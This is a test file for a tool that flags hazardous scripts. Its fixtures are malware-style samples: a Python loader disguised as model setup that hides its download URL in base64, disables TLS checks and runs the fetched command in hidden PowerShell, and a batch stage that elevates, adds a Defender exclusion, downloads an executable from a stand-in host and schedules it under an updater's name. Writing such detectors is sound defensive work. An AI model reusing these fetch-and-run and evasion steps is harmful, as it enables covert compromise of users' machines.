import { expect, test } from 'vitest';
import type { Language } from '../../../src/core/document.ts';
import { judgeScript } from '../../../src/core/instructions/scripts/judgeScript.ts';
import { readScript } from '../../../src/core/instructions/scripts/readScript.ts';
import { picture, text } from './picture.ts';

const read = (language: Language, script: string) => readScript({ path: 'x', language, text: script });

/** After public descriptions of the loader of May 2026. The addresses lead nowhere, and the command is what a server would send. */
const loader = text`
  """Sets up the model."""
  import base64, json, ssl, subprocess
  import urllib.request

  ssl._create_default_https_context = ssl._create_unverified_context
  SOURCE = "aHR0cHM6Ly93d3cuanNvbmtlZXBlci5jb20vYi9OT05F"

  class TokenClassifier:
      def forward(self, x):
          return x

  def warm_up():
      try:
          address = base64.b64decode(SOURCE).decode()
          with urllib.request.urlopen(address) as answer:
              settings = json.loads(answer.read().decode())
          command = settings["cmd"]
          subprocess.run(["powershell", "-WindowStyle", "Hidden", "-Command", command])
      except Exception:
          pass
`;

test('the loader of the campaign of May 2026, line by line', () => {
  expect(picture(loader, read('python', loader))).toBe(
    text`
      ssl._create_default_https_context = ssl._create_unverified_context
                                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ tls-off 1
      SOURCE = "aHR0cHM6Ly93d3cuanNvbmtlZXBlci5jb20vYi9OT05F"
               ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ hidden-dead-drop 3
              address = base64.b64decode(SOURCE).decode()
                        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ hidden-dead-drop 3
              subprocess.run(["powershell", "-WindowStyle", "Hidden", "-Command", command])
              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ fetch-and-run 3
              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ hidden-powershell 3
          except Exception:
          ^^^^^^ failures-swallowed 1
    `.trimEnd(),
  );
  const { level, combination } = judgeScript(read('python', loader));
  expect(level).toBe('error');
  expect(combination).toEqual([
    'hides where it downloads from and runs what it gets',
    'runs fetched text without checking who sent it',
  ]);
});

test('the batch stage: hidden, elevated, exempt from Defender, under the name of an updater', () => {
  const stage = text`
    @echo off
    powershell -Command "Start-Process cmd -Verb RunAs"
    p^ower^sh^ell -w hidden -c "Add-MpPreference -ExclusionPath C:\\Temp"
    curl -k -o "%TEMP%\\service.exe" https://files.example.invalid/service
    schtasks /create /tn "MicrosoftEdgeUpdateTaskCoreab12cd34" /tr "%TEMP%\\service.exe"
    start "" "%TEMP%\\service.exe"
  `;
  expect(read('batch', stage).map(hazard => `${hazard.behaviour} ${hazard.strength}`)).toEqual([
    'elevation 1',
    'hidden-powershell 3',
    'obscured-command 2',
    'defender-exclusion 3',
    'tls-off 1',
    'download-and-run 2',
    'vendor-task 3',
  ]);
  expect(judgeScript(read('batch', stage)).level).toBe('error');
});
